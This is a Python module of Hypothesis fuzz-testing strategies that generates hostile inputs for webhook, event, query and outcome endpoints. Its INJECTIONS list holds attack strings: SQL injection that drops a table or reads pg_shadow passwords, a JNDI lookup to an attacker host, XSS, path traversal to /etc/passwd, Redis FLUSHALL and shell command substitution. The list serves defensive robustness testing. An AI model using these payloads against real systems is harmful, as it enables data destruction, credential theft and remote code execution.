"""Hypothesis strategies for hostile input: arbitrary bytes and JSON, huge and unicode values, injection
strings, and structure-aware mutations of valid webhooks, events, queries and outcome bodies."""

from __future__ import annotations

import json
from typing import Any

from hypothesis import strategies as st

INJECTIONS = (
    "' OR '1'='1",
    "'; DROP TABLE remediation_requests; --",
    "' UNION SELECT usename, passwd FROM pg_shadow --",
    "$1",
    "%s%s%s%n",
    "${jndi:ldap://attacker/x}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "*",
    "?",
    "\r\nFLUSHALL\r\n",
    "gw:dd:*",
    "ctx:*",
    "$(reboot)",
    "`id`",
    "\\",
    "\\u0000",
    "null",
    "[]",
    "{}",
)

# Lone surrogates cannot be encoded as UTF-8, but JSON can carry them as \ud800 escapes.
_CHARS = st.characters(codec=None, exclude_categories=())
texts = st.text(_CHARS, max_size=40)
huge = st.sampled_from((253, 254, 1024, 1025, 2800, 9000, 70_000)).flatmap(
    lambda n: st.sampled_from(("x", "é", "☃", "😀", "\x00")).map(lambda c: c * n)
)
values = st.one_of(texts, st.sampled_from(INJECTIONS), huge)

json_scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=False, allow_infinity=False),
    values,
)
json_values = st.recursive(
    json_scalars,
    lambda inner: st.one_of(st.lists(inner, max_size=4), st.dictionaries(texts, inner, max_size=4)),
    max_leaves=12,
)

LABELS = ("namespace", "exported_namespace", "pod", "deployment", "node", "service", "severity", "team")


def dumps(value: Any) -> bytes:
    """JSON as a sender might write it: lone surrogates as escapes (orjson would refuse them)."""
    return json.dumps(value).encode()


@st.composite
def alerts(draw: st.DrawFn, marker: str) -> dict[str, Any]:
    labels = {"alertname": marker + draw(st.one_of(st.just(""), values))}
    for name in draw(st.lists(st.sampled_from(LABELS), max_size=4, unique=True)):
        labels[name] = draw(values)
    labels.update(draw(st.dictionaries(texts, values, max_size=2)))
    return {
        "status": draw(st.sampled_from(("firing", "resolved"))),
        "labels": labels,
        "annotations": draw(st.dictionaries(texts, values, max_size=2)),
        "startsAt": "2026-01-01T00:00:00Z",
    }


def webhooks(marker: str) -> st.SearchStrategy[dict[str, Any]]:
    return st.lists(alerts(marker), min_size=1, max_size=4).map(lambda a: {"version": "4", "alerts": a})


def events(marker: str) -> st.SearchStrategy[dict[str, Any]]:
    return st.fixed_dictionaries(
        {
            "type": st.sampled_from(("Warning", "Normal", "")),
            "reason": values.map(lambda v: marker + v),
            "message": values,
            "involvedObject": st.fixed_dictionaries(
                {"kind": values, "name": values}, optional={"namespace": values}
            ),
        },
        optional={"metadata": st.fixed_dictionaries({}, optional={"namespace": values})},
    )


def _paths(value: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    out = [prefix]
    if isinstance(value, dict):
        for key, item in value.items():
            out += _paths(item, (*prefix, key))
    elif isinstance(value, list):
        for i, item in enumerate(value):
            out += _paths(item, (*prefix, i))
    return out


@st.composite
def mutated(draw: st.DrawFn, valid: st.SearchStrategy[Any]) -> Any:
    """A valid document with one node deleted, replaced by any JSON value, or wrapped in a list."""
    doc = draw(valid)
    path = draw(st.sampled_from(_paths(doc)))
    if not path:
        return draw(json_values)
    parent = doc
    for key in path[:-1]:
        parent = parent[key]
    action = draw(st.sampled_from(("delete", "replace", "wrap")))
    if action == "delete":
        del parent[path[-1]]
    elif action == "replace":
        parent[path[-1]] = draw(json_values)
    else:
        parent[path[-1]] = [parent[path[-1]]]
    return doc


def bodies(valid: st.SearchStrategy[Any]) -> st.SearchStrategy[bytes]:
    """Request bodies: valid, mutated, truncated, arbitrary JSON, arbitrary bytes."""
    return st.one_of(
        valid.map(dumps),
        mutated(valid).map(dumps),
        st.tuples(valid.map(dumps), st.integers(min_value=0, max_value=200)).map(lambda t: t[0][: t[1]]),
        json_values.map(dumps),
        st.binary(max_size=300),
    )


CONTENT_TYPES = (
    "application/json",
    "application/json; charset=utf-8",
    "APPLICATION/JSON",
    "application/json;charset=latin-1",
    "text/plain",
    "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=x",
    "application/problem+json",
    "",
)

_TIMES = st.one_of(
    st.datetimes().map(lambda d: d.isoformat()),
    st.sampled_from(
        (
            "0001-01-01T00:00:00+01:00",
            "9999-12-31T23:59:59-01:00",
            "0001-01-01T00:00:00Z",
            "9999-12-31T23:59:59.999999Z",
            "2026-02-30T00:00:00Z",
            "2026-01-01T00:00:00+25:00",
            "-1",
            "1e309",
        )
    ),
    texts,
)
QUERY_NAMES = (
    *("namespace", "severity", "alertname", "fingerprint", "phase", "since", "until", "limit"),
    *("offset", "action", "days"),
)


def queries() -> st.SearchStrategy[list[tuple[str, str]]]:
    # Within what a client can put in a URL (httpx stops at 64 KiB; header size limits are their own test).
    value = st.one_of(
        texts,
        st.sampled_from(INJECTIONS),
        st.sampled_from((64, 253, 254, 1024, 1025)).map(lambda n: "x" * n),
        _TIMES,
        st.integers(min_value=-(2**65), max_value=2**65).map(str),
    )
    pair = st.tuples(st.one_of(st.sampled_from(QUERY_NAMES), texts), value)
    return st.lists(pair, max_size=4)


def outcomes() -> st.SearchStrategy[dict[str, Any]]:
    return st.fixed_dictionaries(
        {"action": values, "succeeded": st.one_of(st.booleans(), json_scalars)},
        optional={"detail": values},
    )
